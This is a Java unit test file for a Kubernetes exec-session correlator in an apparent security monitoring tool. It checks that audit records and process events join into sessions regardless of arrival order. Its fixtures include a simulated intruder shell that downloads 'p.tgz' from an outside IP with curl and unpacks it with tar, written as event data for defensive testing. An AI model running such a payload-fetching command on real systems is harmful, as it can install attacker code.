package io.podtrail.correlate;

import io.podtrail.event.Event;
import io.podtrail.event.Fields;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.util.List;

import static io.podtrail.correlate.Scenario.exec;
import static io.podtrail.correlate.Scenario.execRequest;
import static io.podtrail.correlate.Scenario.exit;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * One test per arrival order of the same facts: a kubectl exec of bash into billing/api-1, the shell running
 * curl, the sensors' events and the API server's audit stages reaching the correlator in different orders.
 * Whatever the order, the outcome is the same session with the same processes.
 */
class ArrivalOrderTest {

    private static final String SHIM = "containerd-shim-runc-v2";
    private static final String TTY_BASH = "command=bash&container=api&stdin=true&stdout=true&tty=true";

    private final Event bash = exec(1.06, "bash-1", "shim-1", SHIM, "/bin/bash", "");
    private final Event curl = exec(20, "curl-1", "bash-1", "bash", "/usr/bin/curl", "-sSL http://198.51.100.23/p.tgz");
    private final Event conn = Scenario.connect(20.01, curl, "198.51.100.23", 80);
    private final Event tar = exec(40, "tar-1", "bash-1", "bash", "/bin/tar", "-xzf /tmp/p.tgz");
    private final Event gzip = exec(40.002, "gzip-1", "tar-1", "tar", "/bin/gzip", "-d");
    private final List<Event> request = execRequest(1.0, 200, "audit-1", "john.doe", TTY_BASH, 101);

    private void assertSeedSession(Scenario s) {
        SessionRecord r = s.session("audit-1");
        assertThat(r).isNotNull();
        assertThat(r.confidence()).isEqualTo(SessionRecord.EXACT);
        assertThat(r.userName()).isEqualTo("john.doe");
        assertThat(r.userGroups()).containsExactly("system:authenticated", "sre");
        assertThat(r.sourceIp()).isEqualTo("203.0.113.45");
        assertThat(r.command()).containsExactly("bash");
        assertThat(r.container()).isEqualTo("api");
        assertThat(r.tty()).isTrue();
        assertThat(r.stdin()).isTrue();
        assertThat(r.allowed()).isTrue();
        assertThat(r.responseCode()).isEqualTo(101L);
        assertThat(r.rootExecId()).isEqualTo("bash-1");
        assertThat(r.start()).isEqualTo(Scenario.at(1.03));
        assertThat(r.end()).isEqualTo(Scenario.at(200));
        assertThat(s.processesOf("audit-1")).containsExactlyInAnyOrder("bash-1", "curl-1", "tar-1", "gzip-1");
    }

    @Test
    void auditBeforeProcesses() {
        Scenario s = new Scenario().feed(request.get(0), request.get(1), bash, curl, conn, tar, gzip, request.get(2));
        assertSeedSession(s);
        // live: the shell's children carried the session when they were stored
        assertThat(conn.getString(Fields.SESSION_USER_NAME)).isEqualTo("john.doe");
        assertThat(gzip.getString(Fields.SESSION_ID)).isEqualTo("audit-1");
        assertThat(bash.get(Fields.SESSION_ROOT)).isEqualTo(true);
        assertThat(curl.get(Fields.SESSION_ROOT)).isEqualTo(false);
        assertThat(gzip.get(Fields.ANCESTORS)).isEqualTo(List.of("tar", "bash", SHIM));
    }

    @Test
    void auditSecondsAfterProcesses() {
        assertSeedSession(new Scenario().feed(bash, curl, conn, tar, gzip, request));
    }

    @Test
    void auditMinutesAfterProcessesReplacesTheOutsideApiGuess() {
        // the shell waits 2 minutes for its request, is called an exec outside the API, then the request arrives
        Scenario s = new Scenario().feed(bash, curl, conn, tar, gzip).advance(300);
        assertThat(s.sessions.values()).singleElement().satisfies(r -> assertThat(r.kind()).isEqualTo("outside_api"));
        s.feed(request);
        assertSeedSession(s);
        assertThat(s.removed).hasSize(1);
        assertThat(s.sessions).containsOnlyKeys("audit-1");
    }

    @Test
    void childrenBeforeParents() {
        assertSeedSession(new Scenario().feed(request.get(0), gzip, tar, curl, conn, bash, request.get(1), request.get(2)));
    }

    @Test
    void exitBeforeExec() {
        Event curlExit = exit(21, curl);
        Scenario s = new Scenario().feed(request.get(0), request.get(1), bash, curlExit, curl, conn, tar, gzip, request.get(2));
        assertSeedSession(s);
        assertThat(curlExit.getString(Fields.SESSION_ID)).isEqualTo("audit-1");
    }

    @Test
    void twoUsersInTheSameContainerAtTheSameTime() {
        // jane.roe runs `sh -c "cat /etc/hostname"` without a tty while john.doe's bash is open
        List<Event> jane = execRequest(1.01, 1.2, "audit-2", "jane.roe",
                "command=sh&command=-c&command=cat%20%2Fetc%2Fhostname&container=api&stdout=true", 101);
        Event sh = exec(1.05, "sh-2", "shim-1", SHIM, "/bin/sh", "-c \"cat /etc/hostname\"");
        Event cat = exec(1.052, "cat-2", "sh-2", "sh", "/bin/cat", "/etc/hostname");
        Scenario s = new Scenario().feed(request.get(0), jane.get(0), sh, bash, cat, curl, conn, tar, gzip, jane.get(1),
                jane.get(2), request.get(1), request.get(2));
        assertSeedSession(s);
        SessionRecord j = s.session("audit-2");
        assertThat(j.confidence()).isEqualTo(SessionRecord.EXACT);
        assertThat(j.tty()).isFalse();
        assertThat(j.command()).containsExactly("sh", "-c", "cat /etc/hostname");
        assertThat(s.processesOf("audit-2")).containsExactlyInAnyOrder("sh-2", "cat-2");
    }

    @Test
    void twoIdenticalConcurrentCommandsAreAmbiguous() {
        List<Event> a = execRequest(1.0, 1.5, "audit-a", "alice", "command=ls&container=api", 101);
        List<Event> b = execRequest(1.01, 1.5, "audit-b", "bob", "command=ls&container=api", 101);
        Event ls1 = exec(1.05, "ls-1", "shim-1", SHIM, "/bin/ls", "");
        Event ls2 = exec(1.06, "ls-2", "shim-1", SHIM, "/bin/ls", "");
        Scenario s = new Scenario().feed(a.get(0), b.get(0), ls1, ls2, a.get(1), b.get(1)).advance(60);
        for (String id : List.of("audit-a", "audit-b")) {
            SessionRecord r = s.session(id);
            assertThat(r.confidence()).as(id).isEqualTo(SessionRecord.AMBIGUOUS);
            assertThat(r.candidates()).as(id).containsExactly("ls-1", "ls-2");
            assertThat(r.rootExecId()).as(id).isNull();
        }
        assertThat(ls2.getString(Fields.SESSION_CONFIDENCE)).isEqualTo(SessionRecord.AMBIGUOUS);
    }

    @Test
    void oneSessionThatBecomesAmbiguousWhenASecondCandidateAppears() {
        List<Event> a = execRequest(1.0, 1.5, "audit-a", "alice", "command=ls&container=api", 101);
        Scenario s = new Scenario().feed(a.get(0), exec(1.05, "ls-1", "shim-1", SHIM, "/bin/ls", ""));
        assertThat(s.session("audit-a").confidence()).isEqualTo(SessionRecord.EXACT);
        s.feed(exec(1.5, "ls-2", "shim-1", SHIM, "/bin/ls", ""));
        assertThat(s.session("audit-a").confidence()).isEqualTo(SessionRecord.AMBIGUOUS);
        assertThat(s.session("audit-a").candidates()).containsExactly("ls-1", "ls-2");
    }

    @Test
    void pidReuseInsideASession() {
        // the same pid twice (Falco-style derived ids: node:pid:start differ), both children of the shell
        Event first = exec(10, "podtrail:node-1:4242:10", "bash-1", "bash", "/bin/sleep", "1");
        Event second = exec(30, "podtrail:node-1:4242:30", "bash-1", "bash", "/usr/bin/id", "");
        Scenario s = new Scenario().feed(request.get(0), bash, first, exit(11, first), second, request.get(1));
        assertThat(s.processesOf("audit-1")).contains("podtrail:node-1:4242:10", "podtrail:node-1:4242:30");
        assertThat(second.get(Fields.ANCESTORS)).isEqualTo(List.of("bash", SHIM));
    }

    @Test
    void aDeniedExecIsASessionWithoutProcesses() {
        List<Event> denied = execRequest(1.0, 1.003, "audit-d", "mallory", TTY_BASH, 403);
        Scenario s = new Scenario().feed(denied, bash).advance(120);
        SessionRecord r = s.session("audit-d");
        assertThat(r.allowed()).isFalse();
        assertThat(r.responseCode()).isEqualTo(403L);
        assertThat(r.confidence()).isEqualTo(SessionRecord.UNMATCHED);
        assertThat(s.processesOf("audit-d")).isEmpty();
        assertThat(bash.getString(Fields.SESSION_ID)).isNull();
    }

    @Test
    void aShellFromTheNodeIsAnExecOutsideTheApi() {
        // runc exec (crictl exec -it) from the node: the runtime starts bash in the container, no API request
        Event runc = exec(5, null, null, null, "host", "runc-9", "shim-1", SHIM, "/usr/bin/runc", "exec --tty c0ffee");
        Event nodeBash = exec(5.008, "bash-9", "runc-9", "runc", "/bin/bash", "");
        Event id = exec(11, "id-9", "bash-9", "bash", "/usr/bin/id", "");
        Scenario s = new Scenario().feed(runc, nodeBash, id).advance(200);
        assertThat(s.sessions.values()).singleElement().satisfies(r -> {
            assertThat(r.kind()).isEqualTo(SessionRecord.OUTSIDE_API);
            assertThat(r.userName()).isNull();
            assertThat(r.rootExecId()).isEqualTo("bash-9");
            assertThat(r.namespace()).isEqualTo("billing");
        });
        String id9 = s.sessions.keySet().iterator().next();
        assertThat(s.processesOf(id9)).containsExactlyInAnyOrder("bash-9", "id-9");
        assertThat(s.attributed).doesNotContainKey("runc-9");
        // a probe-like non-interactive command of the runtime is not flagged
        Scenario probe = new Scenario().feed(exec(5, "probe-1", "shim-1", SHIM, "/bin/sh", "-c pg_isready")).advance(300);
        assertThat(probe.sessions).isEmpty();
    }

    @Test
    void aShellThatArrivesAfterTheClockPassedItsDeadlineIsDecidedAtTheNextEvent() {
        // a live server's idle tick moved the clock past the data before the last batch came
        Scenario s = new Scenario().advance(3600);
        Event runc = exec(5, null, null, null, "host", "runc-9", "shim-1", SHIM, "/usr/bin/runc", "exec --tty c0ffee");
        Event nodeBash = exec(5.008, "bash-9", "runc-9", "runc", "/bin/bash", "");
        s.feed(runc, nodeBash, exec(11, "id-9", "bash-9", "bash", "/usr/bin/id", ""));
        assertThat(s.sessions.values()).singleElement().satisfies(r -> assertThat(r.kind()).isEqualTo(SessionRecord.OUTSIDE_API));
    }

    @Test
    void processesOutsideTheWindowAreNotMatched() {
        Event late = exec(100, "bash-late", "shim-1", SHIM, "/bin/bash", "");
        Scenario s = new Scenario().feed(request.get(0), request.get(1), late).advance(400);
        assertThat(s.session("audit-1").confidence()).isEqualTo(SessionRecord.UNMATCHED);
        assertThat(s.attributed.get("bash-late")).startsWith("outside-");
    }

    @Test
    void portForwardIsASessionWithoutProcesses() {
        List<Event> pf = Scenario.request(1.0, 60, "audit-pf", "john.doe", "billing", "api-1", "portforward", "get", "ports=8080", 101);
        Scenario s = new Scenario().feed(pf).advance(100);
        assertThat(s.session("audit-pf").kind()).isEqualTo("portforward");
        assertThat(s.session("audit-pf").confidence()).isNull();
    }

    @Test
    void auditAfterTheShellsChildrenLeftMemoryAttributesThemThroughTheStore() {
        // the children exited and were evicted before the request arrived; the store still knows them
        ProcessArchive stored = new ProcessArchive() {
            @Override
            public java.util.Map<String, String> sessionsOf(java.util.Collection<String> execIds) {
                return java.util.Map.of();
            }

            @Override
            public List<ProcessInfo> processesInPod(String namespace, String pod, long fromNs, long toNs) {
                return List.of();
            }

            @Override
            public List<String> descendants(String execId, long fromNs) {
                return execId.equals("bash-1") ? List.of("curl-1", "tar-1", "gzip-1") : List.of();
            }
        };
        SessionCorrelator.Config shortMemory = new SessionCorrelator.Config(Duration.ofSeconds(30), Duration.ofMinutes(1),
                Duration.ofMinutes(2), 65_536, Duration.ofMinutes(1));
        Scenario s = new Scenario(shortMemory, stored).feed(bash, curl, conn, exit(21, curl), tar, gzip, exit(41, gzip),
                exit(41.1, tar)).advance(900);
        assertThat(s.sessions.values()).singleElement().satisfies(r -> assertThat(r.kind()).isEqualTo("outside_api"));
        s.feed(request);
        assertThat(s.session("audit-1").confidence()).isEqualTo(SessionRecord.EXACT);
        assertThat(s.processesOf("audit-1")).containsExactlyInAnyOrder("bash-1", "curl-1", "tar-1", "gzip-1");
    }

    @Test
    void eventsWithoutParentOrPodInformationPassThrough() {
        // native or Falco events may lack the parent's name, exec id or the pod: no session, no failure
        Event bare = exec(1, null, null, null, "3f2a", "podtrail:node-1:3f2a:7", null, null, "/usr/sbin/tcpdump", "-i any");
        Scenario s = new Scenario().feed(bare).advance(500);
        assertThat(s.sessions).isEmpty();
        assertThat(bare.getString(Fields.SESSION_ID)).isNull();
    }

    @Test
    void memoryIsBoundedPerNodeAndExitedTreesLeave() {
        SessionCorrelator.Config small = new SessionCorrelator.Config(Duration.ofSeconds(30), Duration.ofMinutes(1),
                Duration.ofMinutes(2), 1000, Duration.ofMinutes(1));
        Scenario s = new Scenario(small, ProcessArchive.NONE);
        for (int i = 0; i < 5000; i++) {
            s.feed(exec(i * 0.01, "p-" + i, "init", "init", "/usr/bin/true", ""));
        }
        assertThat(s.correlator.stats().liveProcesses()).isEqualTo(1000);
        assertThat(s.correlator.stats().evicted()).isEqualTo(4000);
        Scenario t = new Scenario(small, ProcessArchive.NONE);
        for (int i = 0; i < 500; i++) {
            Event e = exec(i * 0.01, "q-" + i, "init", "init", "/usr/bin/true", "");
            t.feed(e, exit(i * 0.01 + 0.005, e));
        }
        t.advance(200);
        assertThat(t.correlator.stats().liveProcesses()).isZero();
    }
}
